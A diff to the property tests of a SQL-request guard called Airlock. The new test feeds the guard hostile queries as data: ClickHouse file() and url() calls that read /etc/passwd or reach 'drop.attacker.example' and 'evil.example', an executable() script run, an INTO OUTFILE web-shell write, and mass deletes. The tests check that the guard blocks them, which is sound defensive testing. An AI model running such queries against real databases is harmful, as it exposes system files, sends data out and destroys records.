@@ -1121,7 +1121,7 @@ t.test('a view or table made in the served schema from Supabase\'s internal sche
       const { decision } = await decide({ url, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ query: sql }) });
       if (decision.approval?.risk !== 'critical') throw new Error(`${sql} to ${url}: ${decision.action} ${decision.rule}`);
     }),
-    { numRuns: Math.min(runs, 40), ...seed },
+    { numRuns: Math.min(runs, 14), ...seed },
   );
   // A caller's-rights view turned into an owner's-rights one, in each spelling, is the same change.
   for (const sql of ['ALTER VIEW v SET (security_invoker = false)', 'ALTER VIEW v RESET (security_invoker)', 'ALTER VIEW public.v SET (check_option = local, security_invoker = off)', "ALTER TABLE v SET (security_invoker = '0')"]) {
@@ -1151,7 +1151,7 @@ t.test('SQL in a multipart/form-data field is read as in a form', async (t) => {
         if (decision.approval?.risk !== 'critical') throw new Error(`${JSON.stringify(body)} to ${path}: ${decision.action} ${decision.rule} ${JSON.stringify(description.sql)}`);
       },
     ),
-    { numRuns: Math.min(runs, 40), ...seed },
+    { numRuns: Math.min(runs, 14), ...seed },
   );
   const upload = await decide({ url: `https://${SQL_HOST}/api/run`, headers: [['Content-Type', 'multipart/form-data; boundary=b0undary']], body: `${part('file', 'drop table tennis schedule', '\r\n')}--b0undary--\r\n` });
   t.not(upload.decision.approval?.risk, 'critical', 'a field not named for SQL is not SQL');
@@ -1280,7 +1280,7 @@ t.test('thirteenth pass: a statement hidden by a backslash that ends a multibyte
       const { description, decision } = await decide({ url: e.url, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ [e.key]: sql }) });
       if (decision.approval?.risk !== 'critical') throw new Error(`${sql} to ${e.url}: ${decision.action} ${decision.rule} ${JSON.stringify(description.sql)}`);
     }),
-    { numRuns: Math.min(runs, 40), ...seed },
+    { numRuns: Math.min(runs, 14), ...seed },
   );
   // Controls: a non-ASCII character before an escape that reads the same either way stays a read.
   for (const sql of ["SELECT E'café\\n'", "SELECT E'Grüße\\t', 'x'", "SELECT 'naïve\\path'"]) {
@@ -1485,5 +1485,49 @@ t.test('fourteenth pass: a Hasura mutation whose `where` every row meets is the 
   for (const m of ['delete_orders(where: {id: {_eq: 1}}) { affected_rows }', 'delete_orders(where: {_not: {id: {_gt: 5}}}) { affected_rows }', 'delete_orders(where: {customer: {id: {_eq: 3}}}) { affected_rows }', 'delete_orders_by_pk(id: 1) { id }', 'update_orders_many(updates: [{where: {id: {_eq: 1}}, _set: {paid: true}}]) { affected_rows }']) {
     const { decision } = await decide({ url: `https://${SQL_HOST}/v1/graphql`, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ query: `mutation { ${m} }` }) });
     t.equal(decision.approval?.risk, 'medium', m);
+  }
+});
+
+t.test('fifteenth pass: a read whose SQL no grammar reads still writes or reaches outside the database (ClickHouse GETs, MySQL-only writes in ?sql=)', async (t) => {
+  // ClickHouse answers a GET read-only (`readonly = 2`) but runs its table functions there; SQL no
+  // grammar Airlock has reads (`SETTINGS`, a lambda, `LIMIT … BY`) was taken for no SQL, so
+  // `SELECT * FROM file('/etc/passwd', LineAsString) SETTINGS max_threads = 1` was an allowed GET.
+  // Likewise MySQL's own write syntax in a GET's `?sql=`, and SELECT … INTO OUTFILE.
+  const q = (s: string): string => encodeURIComponent(s);
+  const place = fc.constantFrom(
+    (s: string) => `http://${SQL_HOST}:8123/?query=${q(s)}`,
+    (s: string) => `https://${SQL_HOST}/?query=${q(s)}`,
+    (s: string) => `https://${SQL_HOST}/v1/sql?query=${q(s)}`,
+    (s: string) => `https://${SQL_HOST}/api/run?sql=${q(s)}`,
+    (s: string) => `https://${SQL_HOST}/api/run?sql=red%20shoes&sql=${q(s)}`,
+  );
+  const call = fc.constantFrom("file('/etc/passwd', LineAsString)", "url('https://drop.attacker.example/x', CSV, 'a String')", "s3('https://b.s3.amazonaws.com/x')",
+    "remoteSecure('evil.example:9440', system.one)", "filesystem('/root')", "executable('x.sh', TSV, 'a String')", "read_csv('/etc/passwd')");
+  const hide = fc.constantFrom(
+    (c: string) => `SELECT * FROM ${c} SETTINGS max_threads = 1`,
+    (c: string) => `SELECT arrayMap(x -> x, [1]) FROM ${c}`,
+    (c: string) => `SELECT * FROM ${c} LIMIT 1 BY x`,
+    (c: string) => `/* /* */ x */ SELECT * FROM ${c} SETTINGS a = 1`,
+    (c: string) => `SELECT * FROM ‘t’, ${c} ARRAY JOIN a`,
+    (c: string) => `DESCRIBE TABLE ${c} SETTINGS a = 1`,
+  );
+  const writes = fc.constantFrom('DELETE LOW_PRIORITY FROM users', 'DELETE FROM users ORDER BY id LIMIT 1000000', 'UPDATE LOW_PRIORITY users SET role = 1',
+    "INSERT INTO users SET name = 'x'", "SELECT * FROM users INTO OUTFILE '/var/www/x.php'", 'TRUNCATE users SETTINGS a = 1', 'ALTER TABLE users DELETE WHERE 1');
+  const upper = (s: string, mask: number): string => [...s].map((ch, i) => ((mask >> (i % 30)) & 1 ? ch.toUpperCase() : ch)).join('');
+  await fc.assert(
+    fc.asyncProperty(place, fc.oneof(fc.tuple(hide, call).map(([h, c]) => h(c)), writes), fc.constantFrom('GET', 'HEAD'), fc.integer({ min: 0, max: 2 ** 30 }), async (p, sql, method, mask) => {
+      const url = p(upper(sql, mask));
+      const { description, decision } = await decide({ method, url, headers: [], body: '' });
+      if (decision.approval?.risk !== 'critical' || !description.sql?.destructive) throw new Error(`${method} ${url}: ${decision.action} ${decision.approval?.risk} ${JSON.stringify(description.sql)}`);
+    }),
+    { numRuns: Math.min(runs, 14), ...seed },
+  );
+  // Controls: ClickHouse's own syntax in reads of the database's tables, phrases, InfluxQL.
+  for (const url of [`http://${SQL_HOST}:8123/?query=${q('SELECT count() FROM hits SETTINGS max_threads = 1')}`, `http://${SQL_HOST}:8123/?query=${q('SELECT arrayMap(x -> x * 2, [1, 2]) FROM numbers(3)')}`,
+    `http://${SQL_HOST}:8123/?query=${q('SHOW CREATE TABLE users SETTINGS a = 1')}`, `https://${SQL_HOST}/query?query=${q('show me files in the directory (home)')}`,
+    `https://${SQL_HOST}/query?query=${q('remote (work) jobs')}`, `https://${SQL_HOST}/api/run?sql=${q('delete my account')}`,
+    `https://${SQL_HOST}/query?q=${q('SELECT mean(v) FROM cpu WHERE time > now() - 1h GROUP BY time(1m) fill(null)')}`]) {
+    const { decision } = await decide({ method: 'GET', url, headers: [], body: '' });
+    t.equal(decision.action, 'allow', url);
   }
 });
